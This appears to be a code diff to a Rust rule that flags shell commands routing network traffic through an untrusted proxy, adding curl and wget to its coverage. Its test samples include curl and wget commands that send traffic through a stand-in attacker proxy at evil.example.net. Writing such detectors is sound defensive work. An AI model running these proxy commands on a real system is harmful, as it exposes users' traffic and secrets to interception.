@@ -181,8 +181,13 @@ pub(super) const PROXY_ARGUMENT: Rule = Rule {
             "pip",
             "networksetup",
             "gsettings",
+            "curl",
+            "wget",
         ],
         |look| {
+            if matches!(look.name, "curl" | "wget") {
+                return super::attack::through_proxy(look, is_foreign);
+            }
             if look.name == "env" {
                 let word = look.words().iter().find(|w| {
                     let pair = w.text().split_once('=');
@@ -217,6 +222,9 @@ pub(super) const PROXY_ARGUMENT: Rule = Rule {
         "env HTTPS_PROXY=http://evil.example.net:80 npm install",
         "git config --global http.proxy http://198.51.100.7:8080",
         "npm config set proxy http://198.51.100.7:8080",
+        "curl -x http://evil.example.net:80 https://x.example.net",
+        "curl --proxy=socks5h://evil.example.net:1 https://x.example.net",
+        "wget -e https_proxy=evil.example.net:80 x.example.net",
     ],
     near_misses: &[
         "export http_proxy=",
@@ -226,6 +234,7 @@ pub(super) const PROXY_ARGUMENT: Rule = Rule {
         "export HTTP_PROXY=http://localhost:3128",
         "export NO_PROXY=localhost",
         "git config --get http.proxy",
+        "curl -x http://localhost:8080 https://x.example.net",
     ],
     ..Rule::ASK
 };
